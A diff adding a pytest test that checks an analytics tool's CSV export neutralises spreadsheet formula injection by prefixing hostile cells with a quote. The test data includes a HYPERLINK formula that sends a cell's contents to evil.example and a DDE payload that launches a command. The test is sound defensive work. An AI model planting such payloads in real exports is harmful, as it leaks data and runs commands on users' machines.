@@ -248,6 +248,27 @@ def test_export_as_csv_round_trips_every_event(config, tmp_path):
     assert len(rows) == 30 and rows[0]["site_id"] == "imp"
 
 
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
+                 "\t=1", "\r=1"]
+
+
+def test_export_as_csv_keeps_a_spreadsheet_from_running_event_values_as_formulas(config, tmp_path):
+    with open(tmp_path / "in.jsonl", "wb") as file:
+        for i, value in enumerate(HOSTILE_CELLS):
+            file.write(orjson.dumps({"site_id": "imp", "event_type": value, "path": value, "user_id": value,
+                                     "timestamp": f"2025-02-01T12:00:0{i}Z"}) + b"\n")
+    run_processor(config, "import", str(tmp_path / "in.jsonl"))
+    store = open_store(config)
+    out = io.StringIO()
+    transfer.export_events(store.connection, out, "imp", Period(), "csv")
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert [row["path"] for row in rows] == ["'" + value for value in HOSTILE_CELLS]
+    assert [row["user_id"] for row in rows] == [row["event_type"] for row in rows]
+    out = io.StringIO()
+    transfer.export_events(store.connection, out, "imp", Period())       # JSON lines: as stored
+    assert [orjson.loads(line)["path"] for line in out.getvalue().splitlines()] == HOSTILE_CELLS
+
+
 def test_rebuild_rollups_command(config, tmp_path):
     events_file(tmp_path / "in.jsonl", 20)
     run_processor(config, "import", str(tmp_path / "in.jsonl"))
